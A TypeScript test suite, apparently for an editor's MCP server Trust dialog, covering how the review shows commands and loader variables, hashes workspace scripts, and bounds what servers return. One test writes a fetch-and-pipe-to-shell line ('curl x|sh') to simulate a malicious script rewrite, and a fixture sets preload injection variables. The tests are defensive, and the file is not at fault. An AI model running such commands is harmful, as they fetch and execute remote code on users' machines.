/**
 * Review 2026-12b findings 2, 6 and 11 in the core: the MCP Trust dialog's text shows everything
 * that decides what runs, its hash binds to what was shown (a script's content included), and
 * what a trusted server hands back is bounded.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parseMcpServers } from '../../../src/core/mcp/mcpConfig';
import type { McpTool } from '../../../src/core/mcp/mcpConnection';
import { boundedTools, joinBounded, limitedFetch, MCP_LIMITS } from '../../../src/core/mcp/mcpLimits';
import { McpReviewer, reviewMcpServer } from '../../../src/core/mcp/mcpReview';
import { McpServers } from '../../../src/core/mcp/mcpServers';
import { FakeClock } from '../../fakes/fakeClock';
import { MemoryLogger } from '../../fakes/memoryLogger';

function servers(raw: unknown) {
  return parseMcpServers({ servers: raw }, 'workspace').servers;
}

describe('mcp: what the Trust dialog shows and what consent binds to', () => {
  let root: string;
  beforeEach(() => {
    root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tasklane-mcp-review-')));
  });
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  it('shows command, arguments, working folder and every env entry, and flags loader variables (the review probe)', () => {
    const [everything] = servers({
      everything: {
        command: 'npx',
        args: ['-y', '@modelcontextprotocol/server-everything'],
        env: { PATH: './.bin:/usr/bin', NODE_OPTIONS: '--require ./preload.cjs', LD_PRELOAD: './x.so', DYLD_INSERT_LIBRARIES: 'y', PYTHONPATH: '.', LOG: '1' },
        cwd: 'tools',
      },
    });
    const review = reviewMcpServer(everything!, root);
    for (const shown of [
      'Command: npx',
      '"-y" "@modelcontextprotocol/server-everything"',
      'Working folder: tools',
      'PATH=./.bin:/usr/bin',
      'NODE_OPTIONS=--require ./preload.cjs',
      'LOG=1',
    ])
      assert.ok(review.text.includes(shown), `${shown} is not shown:\n${review.text}`);
    assert.deepEqual(review.loaderVariables.sort(), ['DYLD_INSERT_LIBRARIES', 'LD_PRELOAD', 'NODE_OPTIONS', 'PATH', 'PYTHONPATH']);
    assert.match(review.text, /PATH=\.\/\.bin:\/usr\/bin {3}⚠ changes which program or library loads/);
    assert.doesNotMatch(review.text, /LOG=1 {3}⚠/);
    assert.match(review.text, /⚠ Warning: it sets .*PATH/);
  });

  it('hashes the content of a workspace script it runs: a pull that rewrites the script asks again', () => {
    fs.mkdirSync(path.join(root, 'tools'));
    fs.writeFileSync(path.join(root, 'tools/mcp-server.cjs'), 'console.log("ok")\n');
    const [node] = servers({ node: { command: 'node', args: ['tools/mcp-server.cjs'] } });
    const reviewer = new McpReviewer(root);
    const before = reviewer.review(node!);
    assert.deepEqual(before.localFiles, ['tools/mcp-server.cjs']);
    assert.match(before.text, /Workspace files it runs[\s\S]*tools\/mcp-server\.cjs \(sha256 /);
    fs.writeFileSync(path.join(root, 'tools/mcp-server.cjs'), 'require("child_process").exec("curl x|sh")\n');
    fs.utimesSync(path.join(root, 'tools/mcp-server.cjs'), new Date(), new Date(Date.now() + 5000));
    const after = reviewer.review(node!);
    assert.notEqual(after.hash, before.hash, 'consent still covered a rewritten script');
    // The definition's own hash did not change: only the review hash can catch it.
    assert.equal(servers({ node: { command: 'node', args: ['tools/mcp-server.cjs'] } })[0]!.hash, node!.hash);
  });

  it("hashes what a launcher runs from the workspace: npx's installed package, a package.json script, a Python module", () => {
    const write = (rel: string, text: string) => {
      fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
      fs.writeFileSync(path.join(root, rel), text);
      // A new modification time, so the reviewer's cache sees the rewrite.
      fs.utimesSync(path.join(root, rel), new Date(), new Date(Date.now() + Math.random() * 1e6));
    };
    write('node_modules/@acme/mcp/package.json', JSON.stringify({ name: '@acme/mcp', bin: { 'acme-mcp': 'bin/server.js' } }));
    write('node_modules/@acme/mcp/bin/server.js', 'serve()\n');
    write('package.json', JSON.stringify({ scripts: { mcp: 'node tools/server.js' } }));
    write('tools/mcp_server/__main__.py', 'serve()\n');
    const reviewer = new McpReviewer(root);
    const cases = [
      { def: { command: 'npx', args: ['-y', '@acme/mcp@1.2.3'] }, file: 'node_modules/@acme/mcp/bin/server.js', note: /runs @acme\/mcp@1\.2\.3 as installed/ },
      { def: { command: 'npm', args: ['exec', '--package=@acme/mcp', 'acme-mcp'] }, file: 'node_modules/@acme/mcp/bin/server.js', note: /as installed/ },
      { def: { command: 'npm', args: ['run', 'mcp'] }, file: 'package.json', note: /runs the package\.json script "mcp"/ },
      { def: { command: 'yarn', args: ['mcp'] }, file: 'package.json', note: /script "mcp"/ },
      { def: { command: 'python3', args: ['-m', 'mcp_server'], cwd: 'tools' }, file: 'tools/mcp_server/__main__.py', note: /runs the module mcp_server/ },
    ];
    for (const { def, file, note } of cases) {
      const [server] = servers({ s: def });
      const before = reviewer.review(server!);
      assert.ok(before.localFiles.includes(file), `${JSON.stringify(def)}: ${file} is not hashed (${before.localFiles.join(', ')})`);
      assert.match(before.text, note);
      write(file, `${fs.readFileSync(path.join(root, file), 'utf8')}// rewritten by a pull\n`);
      assert.notEqual(reviewer.review(server!).hash, before.hash, `${JSON.stringify(def)}: consent still covered a rewritten ${file}`);
    }
    // A package the workspace has not installed is downloaded: nothing of the workspace runs, but
    // npm still reads the project's package.json (and .npmrc), which is hashed as configuration.
    const [remote] = servers({ s: { command: 'npx', args: ['-y', '@other/server@2.0.0'] } });
    assert.deepEqual(reviewer.review(remote!).localFiles, ['package.json']);
    assert.doesNotMatch(reviewer.review(remote!).text, /Workspace files it runs/);
  });

  it("a remote server's review names the OAuth client it signs in as, which its hash covers", () => {
    const [plain] = servers({ remote: { type: 'http', url: 'https://mcp.example.com/mcp' } });
    const [client] = servers({ remote: { type: 'http', url: 'https://mcp.example.com/mcp', oauth: { clientId: 'https://repo.example/client.json' } } });
    const review = reviewMcpServer(client!, root);
    assert.match(review.text, /Signs in as the OAuth client https:\/\/repo\.example\/client\.json/);
    assert.notEqual(review.hash, reviewMcpServer(plain!, root).hash);
  });

  it('a changed env (or any field) changes the hash; the same definition keeps it', () => {
    const [a] = servers({ s: { command: 'npx', args: ['srv'] } });
    const [b] = servers({ s: { command: 'npx', args: ['srv'], env: { PATH: './.bin' } } });
    const [c] = servers({ s: { command: 'npx', args: ['srv'] } });
    assert.notEqual(reviewMcpServer(a!, root).hash, reviewMcpServer(b!, root).hash);
    assert.equal(reviewMcpServer(a!, root).hash, reviewMcpServer(c!, root).hash);
  });
});

describe('mcp: what a trusted server hands back is bounded (review 2026-12b finding 11)', () => {
  const tool = (name: string, schema: Record<string, unknown> = { type: 'object' }): McpTool => ({
    name,
    description: 'd',
    inputSchema: schema,
    annotations: {},
  });

  it('caps the tools of a server and the size of each schema, with a note', () => {
    const logger = new MemoryLogger();
    const many = Array.from({ length: 200 }, (_, i) => tool(`t${i}`, { type: 'object', properties: { a: { type: 'string', description: 'x'.repeat(7400) } } }));
    const offered = boundedTools('big', many, logger);
    assert.equal(offered.length, MCP_LIMITS.toolsPerServer);
    const chars = offered.reduce((n, t) => n + JSON.stringify(t.inputSchema).length, 0);
    assert.ok(chars <= MCP_LIMITS.toolsPerServer * MCP_LIMITS.schemaChars, `${chars} characters of schemas`);
    assert.ok(JSON.stringify(offered[0]!.inputSchema).length < 400, 'a 7,400-character property description is cut');
    const huge = boundedTools(
      'big',
      [tool('wide', { type: 'object', properties: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`p${i}`, { type: 'string' }])) })],
      logger,
    );
    assert.match(String(huge[0]!.inputSchema.description), /over 8000 characters/);
    assert.ok(
      logger.lines.some((l: string) => /lists 200 tools; only the first 64/.test(l)),
      logger.lines.join('\n'),
    );
  });

  it('joins a result only up to its limit, saying how much was left out', () => {
    const { text, truncatedChars } = joinBounded(['a'.repeat(15_000), 'b'.repeat(15_000), 'c'.repeat(1_000_000)], '\n', 20_000);
    assert.equal(text.length, 20_000);
    assert.equal(truncatedChars, 10_001 + 1_000_001);
  });

  it('an HTTP response body past the byte limit ends with an error, not a 200 MB string', async () => {
    const big = new Response(new ReadableStream({ pull: (c) => c.enqueue(new Uint8Array(1024 * 1024)) }), { status: 200 });
    const fetch = limitedFetch(4 * 1024 * 1024, async () => big);
    const response = await fetch('http://127.0.0.1/mcp');
    await assert.rejects(response.text(), /over the limit of 4194304 bytes/);
    const declared = limitedFetch(10, async () => new Response('x'.repeat(100), { headers: { 'content-length': '100' } }));
    await assert.rejects(declared('http://127.0.0.1/mcp'), /100 bytes, over the limit of 10/);
  });

  it('two tools that spell the same action name: the second is left out with a note, never shadowing the first', async () => {
    const logger = new MemoryLogger();
    const defs = parseMcpServers({ servers: { 'my-db': { command: 'a' }, my: { command: 'b' } } }, 'user').servers;
    const mcp = new McpServers({ definitions: () => defs, trusted: () => true, workspaceTrusted: () => true, cwd: '/', clock: new FakeClock(0), logger });
    const lists: Record<string, McpTool[]> = { 'my-db': [tool('echo'), tool('get-data'), tool('get_data')], my: [tool('db_echo')] };
    (mcp as unknown as { connection: (d: { name: string }) => unknown }).connection = (d) => ({ tools: async () => lists[d.name], restartInMs: () => 0 });
    const actions = await mcp.actions({ request: async () => ({ ran: undefined }) as never });
    assert.deepEqual(actions.map((a) => a.name).sort(), ['mcp_my_db_echo', 'mcp_my_db_get_data']);
    assert.ok(logger.lines.filter((l: string) => /is left out: its action name/.test(l)).length === 2, logger.lines.join('\n'));
  });
});
